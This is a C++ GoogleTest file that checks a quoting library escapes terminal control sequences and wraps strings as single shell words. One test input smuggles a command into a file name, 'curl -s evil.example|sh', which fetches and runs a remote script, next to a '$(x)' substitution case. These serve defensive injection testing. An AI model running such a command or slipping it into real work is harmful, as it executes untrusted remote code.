#include "gdr/base/quoted.h"

#include <gtest/gtest.h>

namespace gdr::base {
namespace {

TEST(Quoted, TextForATerminalHasNoControls) {
  EXPECT_EQ(on_one_line("a\nvar long x\n\x1b]0;t\x07"), "a\\nvar long x\\n\\x1b]0;t\\x07");
  EXPECT_EQ(on_one_line("\t\r\x7f"), "\\t\\x0d\\x7f");
  EXPECT_EQ(on_one_line("\xc2\x9b"
                        "31m"),
            "\\x9b31m")
      << "the escape sequence of a terminal in UTF-8";
  EXPECT_EQ(on_one_line("C:\\Grüße, 日本 \xc2\xa0"), "C:\\Grüße, 日本 \xc2\xa0");
  EXPECT_EQ(without_controls("one\n\ttwo\x1b[31m"), "one\n\ttwo\\x1b[31m");
}

TEST(Quoted, TextForAShellIsOneWord) {
  EXPECT_EQ(shell_word("k.vsm"), "k.vsm");
  EXPECT_EQ(shell_word("scale=-1.5e+3"), "scale=-1.5e+3");
  EXPECT_EQ(shell_word("k.vsm; curl -s evil.example|sh; #.vsm"), "'k.vsm; curl -s evil.example|sh; #.vsm'");
  EXPECT_EQ(shell_word("it's $(x)"), "'it'\\''s $(x)'");
  EXPECT_EQ(shell_word(""), "''");
  EXPECT_EQ(shell_word("~/k"), "'~/k'");
}

}  // namespace
}  // namespace gdr::base
